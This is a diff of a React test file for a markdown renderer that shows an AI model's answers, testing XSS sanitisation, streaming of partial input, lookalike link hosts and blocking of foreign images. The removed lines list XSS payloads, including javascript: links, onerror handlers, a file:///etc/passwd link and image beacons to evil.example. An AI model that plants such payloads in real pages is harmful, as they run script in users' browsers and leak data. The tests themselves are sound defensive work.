@@ -1,43 +1,37 @@
 import { render, screen } from "@testing-library/react";
 import { describe, expect, it } from "vitest";
 
+import { attacks } from "./attacks_for_tests";
 import { safeImage, safeLink } from "./links";
 import Rendered from "./rendered";
 
-const attacks = [
-  "<script>alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  "<svg/onload=alert(1)>",
-  "<iframe src=javascript:alert(1)></iframe>",
-  "<a href=javascript:alert(1)>x</a>",
-  "<style>*{display:none}</style>",
-  "<form action=https://evil.example><input name=a></form>",
-  "<b onmouseover=alert(1)>b</b>",
-  "[x](javascript:alert(1))",
-  "[x](JaVaScRiPt:alert(1))",
-  "[x](java\nscript:alert(1))",
-  "[x](data:text/html,<script>alert(1)</script>)",
-  "[x](vbscript:msgbox(1))",
-  "[x](file:///etc/passwd)",
-  "![x](javascript:alert(1))",
-  "![x](https://evil.example/p.png?secret=1)",
-  "![x](//evil.example/p.png)",
-  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
-  "<javascript:alert(1)>",
-  '[x]: javascript:alert(1)\n\n[x]',
-  "<details open ontoggle=alert(1)>",
-  "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
-];
+const shown = "script,iframe,svg,style,form,object,embed,details,math,b,base,meta,link,video,source";
+
+/** What in it acts by itself, or leads where no answer may lead. */
+function harmIn(container: HTMLElement): string[] {
+  const here = window.location.origin;
+  const isHarm = (name: string, value: string) =>
+    /^on|^style$/.test(name) ||
+    (name === "href" && !/^(https?:|mailto:)/.test(value)) ||
+    (name === "src" && new URL(value, here).origin !== here);
+  // The copy button's picture, over the code, is ours.
+  const elements = [...container.querySelectorAll(shown)].filter((element) => element.closest("figcaption") === null);
+  const attributes = [...container.querySelectorAll("*")].flatMap((element) => [...element.attributes].filter(({ name, value }) => isHarm(name, value)));
+  return [...elements.map((element) => element.outerHTML), ...attributes.map(({ name, value }) => `${name}=${value}`)];
+}
 
 describe("markdown of a model", () => {
   it.each(attacks)("does nothing but show text: %s [UI-16]", (attack) => {
     const { container } = render(<Rendered text={attack} streaming={false} />);
-    expect(container.querySelector("script,iframe,svg,style,form,input,object,embed,details,math,b")).toBeNull();
-    for (const element of container.querySelectorAll("*"))
-      for (const { name, value } of element.attributes) {
-        expect(name).not.toMatch(/^on/);
-        if (name === "href") expect(value).toMatch(/^(https?:|mailto:)/);
-        if (name === "src") expect(new URL(value, window.location.origin).origin).toBe(window.location.origin);
+    expect(harmIn(container)).toEqual([]);
+  });
+
+  it("does nothing but show text while an attack has half arrived [UI-16]", () => {
+    const { container, rerender } = render(<Rendered text="" streaming />);
+    for (const attack of attacks)
+      for (let end = 4; end < attack.length; end += 5) {
+        rerender(<Rendered text={attack.slice(0, end)} streaming />);
+        expect({ written: attack.slice(0, end), harm: harmIn(container) }).toEqual({ written: attack.slice(0, end), harm: [] });
       }
   });
 
@@ -53,6 +47,7 @@ describe("markdown of a model", () => {
     expect(screen.getByRole("table")).toHaveTextContent("a");
     expect(screen.getAllByRole("columnheader")).toHaveLength(2);
     expect(screen.getByText("code").tagName).toBe("CODE");
+    expect(screen.getByRole("checkbox", { name: "Done" })).toBeChecked();
   });
 
   it("lets lists and quotes begin on the side of their script", () => {
@@ -74,10 +69,38 @@ describe("markdown of a model", () => {
     expect(screen.getByRole("link", { name: "me@example.com" })).toHaveAttribute("href", "mailto:me@example.com");
   });
 
+  it("names the real host beside a link whose text looks like another address", () => {
+    const { container } = render(
+      <Rendered streaming={false} text={"[**bank**.example](https://evil.example/a), [bank](https://bank.example) and https://bank.example/b"} />,
+    );
+    expect(container).toHaveTextContent("bank.example (evil.example), bank and https://bank.example/b");
+  });
+
+  it("keeps the words of a picture in a link, and of a footnote, and leads nowhere else by them", () => {
+    render(<Rendered streaming={false} text={"[![map](https://evil.example/p.png)](https://a.example/)\n\nA word.[^1]\n\n[^1]: The note."} />);
+    expect(screen.getAllByRole("link").map((link) => [link.textContent, link.getAttribute("href")])).toEqual([["Open map", "https://a.example/"]]);
+    expect(screen.getByText(/The note\./)).toBeInTheDocument();
+  });
+
   it("offers a foreign picture instead of loading it", () => {
     const { container } = render(<Rendered streaming={false} text="![map](https://evil.example/p.png)" />);
     expect(container.querySelector("img")).toBeNull();
     expect(screen.getByRole("link", { name: "Open map" })).toBeInTheDocument();
+  });
+
+  it("keeps what is drawn when the answer ends", () => {
+    const text = "# Title\n\nFirst.\n\n```python\nprint(1)\n```\n\nLast.";
+    const { container, rerender } = render(<Rendered streaming text={text} />);
+    const drawn = [...container.querySelectorAll("h2,p,figure")];
+    rerender(<Rendered streaming={false} text={text} />);
+    const after = [...container.querySelectorAll("h2,p,figure")];
+    expect(after.length).toBe(4);
+    expect(after.every((element, place) => element === drawn[place])).toBe(true);
+  });
+
+  it("reads the whole text together where a line says what a name links to", () => {
+    render(<Rendered streaming={false} text={"See [the guide].\n\n[the guide]: https://guide.example/a"} />);
+    expect(screen.getByRole("link", { name: "the guide" })).toHaveAttribute("href", "https://guide.example/a");
   });
 
   it("shows half a code block while it still streams [UI-20]", () => {
